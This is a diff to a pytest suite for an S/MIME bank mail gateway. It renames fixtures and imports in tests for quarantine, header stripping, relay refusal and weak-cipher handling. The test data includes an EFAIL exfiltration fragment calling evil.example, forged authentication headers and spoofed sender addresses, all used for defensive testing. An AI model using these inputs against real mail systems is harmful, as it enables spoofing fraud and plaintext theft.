@@ -11,33 +11,33 @@ import pytest
 import structlog
 
 from gateway.app import TRUST_LOOK_S
-from gateway.cli.trace_view import _fate
+from gateway.cli.trace.view import _fate
 from gateway.cms.certificate import parse_certificate
 from gateway.demo import openssl
 from gateway.errors import Reason
 from gateway.model.facts import Facts
 from gateway.model.outcome import Settled
 from gateway.model.verdict import DecryptionVerdict, HeadersShown, SignatureVerdict, Status, Trust, Verdicts
-from gateway.pipeline import inbound
-from gateway.pipeline.compose import neutralised
 from gateway.pipeline.facts import Message
-from gateway.pipeline.trust_card import read as read_card
-from gateway.pki.path import validate
-from gateway.policy.replay import replay
+from gateway.pipeline.inbound import receive as inbound
+from gateway.pipeline.inbound.compose import neutralised
+from gateway.pipeline.inbound.trust_card import read as read_card
+from gateway.pki.path.validation import validate
+from gateway.policy.recorded.replay import replay
 from gateway.ports.administration import NewCertificate
 from gateway.settings import Settings
-from tests.support.bank import House, house
+from tests.support.bank import Context, context
 from tests.support.bank import policy as one_policy
 
 QUESTION = b"Content-Type: text/plain\r\n\r\nPlease raise my limit.\r\n"
 HEADER = b"From: anna@customer.example\r\nTo: support@bank.example\r\nSubject: A question\r\nMessage-ID: <q@c>\r\n"
 
 
-def signed(bank: House, name: str = "anna") -> bytes:
+def signed(bank: Context, name: str = "anna") -> bytes:
     return HEADER + openssl.sign(QUESTION, bank.bank.people[name])
 
 
-def sealed(bank: House, name: str = "anna") -> bytes:
+def sealed(bank: Context, name: str = "anna") -> bytes:
     return b"Message-ID: <q@c>\r\n" + openssl.encrypt(
         openssl.sign(QUESTION, bank.bank.people[name]),
         bank.bank.support_certificate,
@@ -45,20 +45,20 @@ def sealed(bank: House, name: str = "anna") -> bytes:
     )
 
 
-def sealed_only(bank: House) -> bytes:
+def sealed_only(bank: Context) -> bytes:
     """Encrypted and not signed: the bank's certificate is public, so this is anybody's."""
     return openssl.encrypt(
         QUESTION, bank.bank.support_certificate, ("eve@customer.example", "support@bank.example", "Buy now")
     )
 
 
-def arrived(bank: House, octets: bytes) -> bytes:
+def arrived(bank: Context, octets: bytes) -> bytes:
     outcome = bank.gateway.handle(bank.receive(octets, "support@bank.example"))
     assert outcome.answer is Settled.TAKEN, outcome
     return bank.inbound.octets_for("support@bank.example")
 
 
-def test_a_sealed_question_is_opened_labelled_and_believed(bank: House) -> None:
+def test_a_sealed_question_is_opened_labelled_and_believed(bank: Context) -> None:
     octets = arrived(bank, sealed(bank))
     mail = message_from_bytes(octets, policy=policy.default)
     assert b"Please raise my limit." in octets
@@ -69,14 +69,14 @@ def test_a_sealed_question_is_opened_labelled_and_believed(bank: House) -> None:
     assert bank.inbound.taken[0][2].ret == "HDRS"
 
 
-def test_an_altered_one_is_quarantined(bank: House) -> None:
+def test_an_altered_one_is_quarantined(bank: Context) -> None:
     outcome = bank.gateway.handle(bank.receive(signed(bank).replace(b"my limit", b"his limit"), "support@bank.example"))
     assert [one.settled for one in outcome.recipients] == [Settled.HELD]
     assert bank.inbound.taken == []
     assert bank.gateway.store.hold.list()[0].kind == "quarantine"
 
 
-def test_what_an_operator_let_go_is_no_difference_of_rules(bank: House) -> None:
+def test_what_an_operator_let_go_is_no_difference_of_rules(bank: Context) -> None:
     mail = bank.receive(signed(bank).replace(b"my limit", b"his limit"), "support@bank.example")
     assert bank.gateway.handle(mail).recipients[0].settled is Settled.HELD
     assert bank.gateway.handle(mail, released=True).recipients[0].settled is Settled.TAKEN
@@ -88,14 +88,14 @@ def test_what_an_operator_let_go_is_no_difference_of_rules(bank: House) -> None:
     assert [one.outcome for one in replay(records, bank.gateway.rules)] == ["same", "same"]
 
 
-def test_signed_by_somebody_else_is_not_believed(bank: House) -> None:
+def test_signed_by_somebody_else_is_not_believed(bank: Context) -> None:
     mail = message_from_bytes(arrived(bank, sealed(bank, "ben")), policy=policy.default)
     assert mail["Sealgate-Verdict"].startswith("not_trusted")
     assert "smime=policy" in mail["Authentication-Results"]
     assert mail["Subject"].startswith("[signature not trusted]")
 
 
-def test_status_fields_and_tags_from_outside_are_taken_off(bank: House) -> None:
+def test_status_fields_and_tags_from_outside_are_taken_off(bank: Context) -> None:
     forged = (
         b"Sealgate-Verdict: trusted\r\nAuthentication-Results: gateway.bank.example; smime=pass\r\n"
         b"Authentication-Results: GATEWAY.bank.example 1; smime=pass\r\n"
@@ -128,7 +128,7 @@ rules:
     cases: [{given: {direction: inbound}, expect: {end: deliver}}]
 otherwise: reject
 """
-    with house(home, one_policy(home / "labels.yaml", rules)) as bank:
+    with context(home, one_policy(home / "labels.yaml", rules)) as bank:
         octets = arrived(bank, b"X-Bank-Class: customer\r\nimportance: high\r\n" + HEADER + b"\r\nhi\r\n")
         assert b"X-Bank-Class" not in octets
         assert b"importance" not in octets.lower()
@@ -139,7 +139,7 @@ otherwise: reject
         assert b"importance" not in octets.lower()
 
 
-def test_results_of_a_filter_in_front_stay_only_where_it_is_the_peer(bank: House) -> None:
+def test_results_of_a_filter_in_front_stay_only_where_it_is_the_peer(bank: Context) -> None:
     octets = b"Authentication-Results: filter.bank.example; dmarc=pass\r\n" + HEADER + b"\r\nhi\r\n"
     assert b"filter.bank.example" not in arrived(bank, octets)
     filtered = bank.receive(octets, "staff@bank.example")
@@ -149,7 +149,7 @@ def test_results_of_a_filter_in_front_stay_only_where_it_is_the_peer(bank: House
 
 
 def test_the_facts_are_read_once_for_recipients_that_share_their_keys(
-    bank: House, monkeypatch: pytest.MonkeyPatch
+    bank: Context, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A hundred recipients of a mail of ten thousand parts kept a worker busy for a minute."""
     read: list[int] = []
@@ -168,7 +168,7 @@ def test_the_facts_are_read_once_for_recipients_that_share_their_keys(
 
 
 def test_of_many_keys_that_open_a_large_mail_one_form_stays_in_memory(
-    bank: House, monkeypatch: pytest.MonkeyPatch
+    bank: Context, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Attack: a mail encrypted to a hundred mailboxes with keys of their own was in memory a hundred times."""
     kept: list[bool] = []
@@ -182,8 +182,8 @@ def test_of_many_keys_that_open_a_large_mail_one_form_stays_in_memory(
     monkeypatch.setattr(inbound, "_Seen", spied)
     monkeypatch.setattr(inbound, "KEPT_OCTETS", 0)
     boxes = [f"box-{number}@bank.example" for number in range(4)]
-    opener = next(one for one in bank.gateway.house.openers if one.opens_for("support@bank.example"))
-    before = bank.gateway.house
+    opener = next(one for one in bank.gateway.context.openers if one.opens_for("support@bank.example"))
+    before = bank.gateway.context
     bank.gateway.use(replace(before, openers=tuple(replace(opener, recipients=(box,)) for box in boxes)))
     try:
         outcome = bank.gateway.handle(bank.receive(sealed(bank), *boxes))
@@ -197,7 +197,7 @@ def test_of_many_keys_that_open_a_large_mail_one_form_stays_in_memory(
         assert b"Sealgate-Verdict: trusted\r\n" in octets
 
 
-def told(bank: House, octets: bytes, sender: str, peer: str = "192.0.2.1") -> list[tuple[str, ...]]:
+def told(bank: Context, octets: bytes, sender: str, peer: str = "192.0.2.1") -> list[tuple[str, ...]]:
     """Who was written to, when one of two recipients is refused behind us after the other one has the mail."""
     bank.inbound.codes["nobody@bank.example"] = 550
     mail = bank.receive(octets, "support@bank.example", "nobody@bank.example", sender=sender)
@@ -206,7 +206,7 @@ def told(bank: House, octets: bytes, sender: str, peer: str = "192.0.2.1") -> li
     return [recipients for recipients, _, envelope in bank.outbound.taken if envelope.reverse_path == ""]
 
 
-def test_a_stranger_cannot_have_us_write_to_somebody_else(bank: House) -> None:
+def test_a_stranger_cannot_have_us_write_to_somebody_else(bank: Context) -> None:
     """The bounce cannon: the reverse-path is anybody's to choose, and its owner would get the stranger's subject."""
     assert told(bank, sealed_only(bank), "victim@elsewhere.example") == []
 
@@ -224,7 +224,7 @@ def test_a_stranger_cannot_have_us_write_to_somebody_else(bank: House) -> None:
 def test_a_proven_sender_is_told(
     home: Path, dmarc: bytes, sender: str, more: bytes, expected: list[tuple[str, ...]]
 ) -> None:
-    with house(home, one_policy(home / "p.yaml", EXPLAINED)) as bank:
+    with context(home, one_policy(home / "p.yaml", EXPLAINED)) as bank:
         octets = b"Authentication-Results: filter.bank.example; dmarc=" + dmarc + b"\r\n" + more + sealed_only(bank)
         assert told(bank, octets, sender, peer="127.0.0.9") == expected
 
@@ -238,13 +238,13 @@ def test_dmarc_proves_no_from_but_the_outer_one() -> None:
     assert not inbound.answerable(replace(facts, verdicts=verdicts))
 
 
-def test_a_verified_signer_is_told_at_the_own_address_only(bank: House) -> None:
+def test_a_verified_signer_is_told_at_the_own_address_only(bank: Context) -> None:
     assert told(bank, sealed(bank), "anna@customer.example") == [("anna@customer.example",)]
     bank.outbound.taken.clear()
     assert told(bank, sealed(bank).replace(b"<q@c>", b"<r@c>"), "victim@elsewhere.example") == []
 
 
-def test_the_banks_own_address_from_outside_is_quarantined(bank: House) -> None:
+def test_the_banks_own_address_from_outside_is_quarantined(bank: Context) -> None:
     spoof = HEADER.replace(b"anna@customer.example", b"director@bank.example") + b"\r\npay now\r\n"
     outcome = bank.gateway.handle(bank.receive(spoof, "support@bank.example"))
     assert outcome.recipients[0].settled is Settled.HELD
@@ -254,13 +254,13 @@ def test_the_banks_own_address_from_outside_is_quarantined(bank: House) -> None:
 @pytest.mark.parametrize("name", [
     b'"Director <director@bank.example>"', b'"Director @ bank.example"',
     b"=?utf-8?q?director=40bank=2Eexample?=", b'"=?utf-8?q?director=40bank=2Eexample?="'])
-def test_the_banks_address_as_a_strangers_name_is_quarantined(bank: House, name: bytes) -> None:
+def test_the_banks_address_as_a_strangers_name_is_quarantined(bank: Context, name: bytes) -> None:
     spoof = HEADER.replace(b"anna@customer.example", name + b" <eve@evil.example>", 1)
     outcome = bank.gateway.handle(bank.receive(spoof + b"\r\npay now\r\n", "support@bank.example"))
     assert outcome.recipients[0].rule == "inbound:forged-as-us"
 
 
-def test_only_keys_of_the_envelopes_recipient_open(bank: House) -> None:
+def test_only_keys_of_the_envelopes_recipient_open(bank: Context) -> None:
     """A captured order re-sent to another mailbox is not decrypted for it."""
     outcome = bank.gateway.handle(bank.receive(sealed(bank), "staff@bank.example"))
     assert outcome.recipients[0].rule == "inbound:locked"
@@ -270,7 +270,7 @@ def test_only_keys_of_the_envelopes_recipient_open(bank: House) -> None:
 
 
 @pytest.mark.parametrize("before", [(), ("support@bank.example",)])
-def test_from_the_world_to_the_world_is_refused(bank: House, before: tuple[str, ...]) -> None:
+def test_from_the_world_to_the_world_is_refused(bank: Context, before: tuple[str, ...]) -> None:
     outcome = bank.gateway.handle(bank.receive(signed(bank), *before, "anna@customer.example"))
     assert (outcome.answer, outcome.reason) == (Settled.REFUSED, Reason.RECIPIENT_NOT_OURS)
     assert bank.inbound.taken == bank.outbound.taken == []
@@ -290,7 +290,7 @@ otherwise: reject
 
 
 def test_what_cannot_be_opened_arrives_inside_an_explanation(home: Path) -> None:
-    with house(home, one_policy(home / "p.yaml", EXPLAINED)) as bank:
+    with context(home, one_policy(home / "p.yaml", EXPLAINED)) as bank:
         original = sealed(bank)
         bank.gateway.handle(bank.receive(original, "staff@bank.example"))
         mail = message_from_bytes(bank.inbound.octets_for("staff@bank.example"), policy=policy.default)
@@ -304,7 +304,7 @@ def test_what_cannot_be_opened_arrives_inside_an_explanation(home: Path) -> None
         assert attached.get_content()["Subject"] == "A question"
 
 
-def in_3des(bank: House) -> bytes:
+def in_3des(bank: Context) -> bytes:
     """Signed by Anna and encrypted by openssl as Outlook 2007 did."""
     header = ("-from", "anna@customer.example", "-to", "support@bank.example", "-subject", "x", "-crlfeol")
     octets = openssl.run("cms", "-encrypt", "-des3", *header, bank.bank.support_certificate,
@@ -319,7 +319,7 @@ def test_weak_cipher_is_named_inside_and_never_trusted(home: Path, weak: tuple[s
         opening = settings.opening.model_copy(update={"weak": weak})
         return one_policy(home / "p.yaml", EXPLAINED)(settings).model_copy(update={"opening": opening})
 
-    with house(home, change) as bank, structlog.testing.capture_logs() as lines:
+    with context(home, change) as bank, structlog.testing.capture_logs() as lines:
         octets = arrived(bank, in_3des(bank))
         mail = message_from_bytes(octets, policy=policy.default)
         (said,) = [line for line in lines if line["event"] == "weak encryption"]
@@ -337,7 +337,7 @@ def test_weak_cipher_is_named_inside_and_never_trusted(home: Path, weak: tuple[s
 def test_unauthenticated_plaintext_loses_its_active_content(home: Path) -> None:
     """EFAIL (CVE-2017-17689): CBC ciphertext without a signature inside may be spliced by anybody."""
     html = b'Content-Type: text/html; charset="utf-8"\r\n\r\n<img src="http://evil.example/?\r\n'
-    with house(home, one_policy(home / "p.yaml", EXPLAINED)) as bank:
+    with context(home, one_policy(home / "p.yaml", EXPLAINED)) as bank:
         octets = openssl.encrypt(
             html, bank.bank.support_certificate, ("anna@customer.example", "support@bank.example", "x")
         )
@@ -393,7 +393,7 @@ def test_neutralised_in_every_part(kind: str) -> None:
     assert b"<b>" in out
 
 
-def test_long_lines_from_outside_are_re_encoded_before_the_card_is_made(bank: House) -> None:
+def test_long_lines_from_outside_are_re_encoded_before_the_card_is_made(bank: Context) -> None:
     delivered = arrived(bank, HEADER + b"\r\n" + b"x" * 50_000 + b"\r\n")
     assert max(map(len, delivered.split(b"\r\n"))) <= 998
     read_card(delivered, bank.gateway.keys.public("trust:card").public, datetime.now(UTC))
@@ -401,13 +401,13 @@ def test_long_lines_from_outside_are_re_encoded_before_the_card_is_made(bank: Ho
 
 
 @pytest.mark.parametrize("who", ["signer", "issuer"])
-def test_what_the_bank_distrusts_is_believed_no_longer_by_a_running_gateway(bank: House, who: str) -> None:
+def test_what_the_bank_distrusts_is_believed_no_longer_by_a_running_gateway(bank: Context, who: str) -> None:
     """`sealgate cert distrust` is what one does in an emergency: nobody then thinks of a reload."""
     assert b"Sealgate-Verdict: trusted" in arrived(bank, signed(bank))
     certificates = bank.gateway.store.certificates
     (row,) = certificates.rows("anna@customer.example")
     issuer = validate(parse_certificate(row.der), bank.gateway.clock.now(), "signer",
-                      bank.gateway.house.judge.trust).path[1]
+                      bank.gateway.context.judge.trust).path[1]
     certificates.add([NewCertificate(issuer, source="import")])
     distrusted = row.sha256 if who == "signer" else issuer.sha256
     certificates.set_trust(distrusted, "distrusted")
@@ -426,7 +426,7 @@ ODD_LINES = [b"HELO\r\n", b"\xef\xbb\xbfX: y\r\n", b"X" * 300 + b": y\r\n"]
 
 
 @pytest.mark.parametrize("odd", [*ODD_LINES, b" \r\n"])
-def test_no_reader_finds_forged_fields_behind_an_odd_line(bank: House, odd: bytes) -> None:
+def test_no_reader_finds_forged_fields_behind_an_odd_line(bank: Context, odd: bytes) -> None:
     """Attack: readers that pass over a line that is no field (Exchange, Dovecot) go on reading fields behind it."""
     forged = b"Sealgate-Signature: valid\r\nSubject: [customer] Hello\r\nReply-To: eve@x.example\r\n"
     before = b"" if odd == b" \r\n" else b"From: eve@x.example\r\nTo: support@bank.example\r\n"
@@ -438,7 +438,7 @@ def test_no_reader_finds_forged_fields_behind_an_odd_line(bank: House, odd: byte
 
 
 @pytest.mark.parametrize("odd", ODD_LINES)
-def test_the_banks_address_behind_an_odd_line_is_quarantined(bank: House, odd: bytes) -> None:
+def test_the_banks_address_behind_an_odd_line_is_quarantined(bank: Context, odd: bytes) -> None:
     octets = b"X-Mailer: x\r\n" + odd + b"From: director@bank.example\r\nSubject: Pay\r\n\r\nHello.\r\n"
     outcome = bank.gateway.handle(bank.receive(octets, "support@bank.example", sender="eve@x.example"))
     assert outcome.recipients[0].rule == "inbound:forged-as-us"
